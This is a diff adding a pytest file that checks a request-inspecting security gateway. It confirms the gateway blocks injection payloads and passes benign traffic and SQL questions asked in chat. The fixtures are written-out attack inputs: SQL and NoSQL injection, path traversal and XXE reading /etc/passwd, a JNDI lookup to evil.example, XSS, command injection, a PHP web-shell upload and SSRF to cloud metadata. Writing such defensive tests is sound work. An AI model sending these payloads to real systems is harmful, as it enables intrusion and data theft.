@@ -1,0 +1,195 @@
+"""`attacks`: the check over real requests through a real gateway and upstream."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import aiohttp
+import openai
+import orjson
+import pytest
+from openai import AsyncOpenAI
+from pydantic import ValidationError
+
+from tests.conftest import GatewayFactory, Upstream, policy_text
+from wardgate.checks.attacks import Config
+from wardgate.observe.query import EventQuery, query_events
+
+
+@pytest.mark.parametrize(
+    ("config", "error"),
+    [
+        ({}, None),
+        ({"engine": "builtin", "paranoia": 4, "threshold": 10}, None),
+        ({"paranoia": 5}, "less than or equal to 4"),
+        ({"engine": "waf"}, "Input should be 'builtin' or 'crs'"),
+        ({"body_limit": 10}, "greater than or equal to 1024"),
+        ({"message_text": "prose"}, "Input should be 'natural' or 'interpreted'"),
+    ],
+)
+def test_config(config: dict[str, object], error: str | None) -> None:
+    if error is None:
+        Config.model_validate(config)
+        return
+    with pytest.raises(ValidationError, match=error):
+        Config.model_validate(config)
+
+
+ROUTES = """
+  - name: chat
+    match: {path_prefix: /v1}
+    upstream: up
+    provider: openai
+    checks:
+      - type: attacks
+        {mode}
+  - name: api
+    match: {path_prefix: /}
+    upstream: up
+    checks:
+      - type: attacks
+        {mode}
+"""
+
+
+async def _gateway(
+    upstream: Upstream, make_gateway: GatewayFactory, tmp_path: Path, mode: str = "enforce"
+) -> str:
+    routes = ROUTES.replace("{mode}", f"mode: {mode}")
+    gw = await make_gateway(policy_text(f'["{upstream.base}"]', routes, events_db=tmp_path / "e"))
+    return gw.base
+
+
+ATTACKS = [
+    ("GET", "/items?id=1%27%20OR%20%271%27%3D%271", None, {}),
+    ("GET", "/files?name=..%2F..%2F..%2Fetc%2Fpasswd", None, {}),
+    ("GET", "/search", None, {"User-Agent": "${jndi:ldap://evil.example/a}"}),
+    ("GET", "/search", None, {"Cookie": "session=abc; pref=<script>alert(1)</script>"}),
+    ("POST", "/items", b'{"name": {"nested": ["x; cat /etc/passwd"]}}', {}),
+    ("POST", "/items", b'{"user": {"$where": "sleep(5000)"}}', {}),
+    (
+        "POST",
+        "/xml",
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+        {"Content-Type": "application/xml"},
+    ),
+    (
+        "POST",
+        "/upload",
+        b'--b\r\nContent-Disposition: form-data; name="f"; filename="../../shell.php"\r\n\r\n'
+        b"<?php system($_GET['c']); ?>\r\n--b--\r\n",
+        {"Content-Type": "multipart/form-data; boundary=b"},
+    ),
+    ("GET", "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", None, {}),
+]
+
+
+@pytest.mark.parametrize(("method", "path", "body", "headers"), ATTACKS)
+async def test_attacks_in_every_part_are_refused_with_a_problem(
+    upstream: Upstream,
+    make_gateway: GatewayFactory,
+    http: aiohttp.ClientSession,
+    tmp_path: Path,
+    method: str,
+    path: str,
+    body: bytes | None,
+    headers: dict[str, str],
+) -> None:
+    base = await _gateway(upstream, make_gateway, tmp_path)
+    if body is not None and "Content-Type" not in headers:
+        headers = {**headers, "Content-Type": "application/json"}
+    before = upstream.recorder.total
+    async with http.request(method, base + path, data=body, headers=headers) as response:
+        assert response.status == 403
+        assert response.content_type == "application/problem+json"
+        problem = orjson.loads(await response.read())
+        assert problem["request_id"] == response.headers["X-Request-Id"]
+        # The reason stays in the audit log; the client learns nothing about the rule.
+        assert "rule" not in problem and "sqli" not in orjson.dumps(problem).decode()
+    assert upstream.recorder.total == before
+
+
+async def test_findings_are_recorded_with_rule_and_location(
+    upstream: Upstream, make_gateway: GatewayFactory, http: aiohttp.ClientSession, tmp_path: Path
+) -> None:
+    routes = ROUTES.replace("{mode}", "mode: monitor")
+    gw = await make_gateway(policy_text(f'["{upstream.base}"]', routes, events_db=tmp_path / "e"))
+    async with http.get(gw.base + "/items?id=1%20union%20select%20password%20from%20users"):
+        pass
+    await gw.flush_events()
+    (event,) = query_events(tmp_path / "e", EventQuery())
+    assert event["status"] == 200 and event["would_block"]
+    findings = orjson.dumps(event).decode()
+    assert "attack.sqli" in findings and "query:id" in findings
+    assert "password" not in findings  # evidence is a hash, never the value
+
+
+BENIGN = [
+    ("GET", "/items?id=42&sort=name&q=caf%C3%A9%20con%20leche", None, {}),
+    ("GET", "/search?q=union%20station%20to%20select%20street", None, {}),
+    ("POST", "/items", b'{"name": "O\'Brien & Sons", "tags": ["a", "b"], "n": 3}', {}),
+    ("POST", "/form", b"name=Jos%C3%A9+N%C3%BA%C3%B1ez&city=M%C3%A1laga", {
+        "Content-Type": "application/x-www-form-urlencoded"
+    }),
+]
+
+
+@pytest.mark.parametrize(("method", "path", "body", "headers"), BENIGN)
+async def test_ordinary_requests_pass(
+    upstream: Upstream,
+    make_gateway: GatewayFactory,
+    http: aiohttp.ClientSession,
+    tmp_path: Path,
+    method: str,
+    path: str,
+    body: bytes | None,
+    headers: dict[str, str],
+) -> None:
+    base = await _gateway(upstream, make_gateway, tmp_path)
+    if body is not None and "Content-Type" not in headers:
+        headers = {**headers, "Content-Type": "application/json"}
+    async with http.request(method, base + path, data=body, headers=headers) as response:
+        assert response.status == 200
+
+
+async def test_unparsable_json_is_refused_not_passed_uninspected(
+    upstream: Upstream, make_gateway: GatewayFactory, http: aiohttp.ClientSession, tmp_path: Path
+) -> None:
+    base = await _gateway(upstream, make_gateway, tmp_path)
+    broken = b'{"q": "fine", "x": '
+    headers = {"Content-Type": "application/json"}
+    async with http.post(base + "/items", data=broken, headers=headers) as response:
+        assert response.status == 400
+        assert response.content_type == "application/problem+json"
+
+
+MESSAGES = [
+    {"role": "system", "content": "You are a database tutor."},
+    {
+        "role": "user",
+        "content": "How do I write a SQL UNION query? Is `SELECT name FROM users UNION "
+        "SELECT name FROM admins WHERE 1=1 --` right, and what does ' OR '1'='1 do?",
+    },
+]
+
+
+async def test_chat_text_about_sql_is_language_not_an_attack(
+    upstream: Upstream, make_gateway: GatewayFactory, tmp_path: Path
+) -> None:
+    base = await _gateway(upstream, make_gateway, tmp_path)
+    async with AsyncOpenAI(base_url=f"{base}/v1", api_key="k", max_retries=0) as client:
+        reply = await client.chat.completions.create(model="m", messages=MESSAGES)  # type: ignore[arg-type]
+        assert reply.choices[0].message.content
+        # Structured fields of the same call are still inspected...
+        with pytest.raises(openai.PermissionDeniedError):
+            await client.chat.completions.create(
+                model="m",
+                messages=MESSAGES,  # type: ignore[arg-type]
+                user="x' OR '1'='1' --",
+            )
+        # ...and a JNDI lookup is refused even in prose: loggers expand it.
+        with pytest.raises(openai.PermissionDeniedError):
+            await client.chat.completions.create(
+                model="m",
+                messages=[{"role": "user", "content": "hi ${jndi:ldap://x.example/a}"}],
+            )
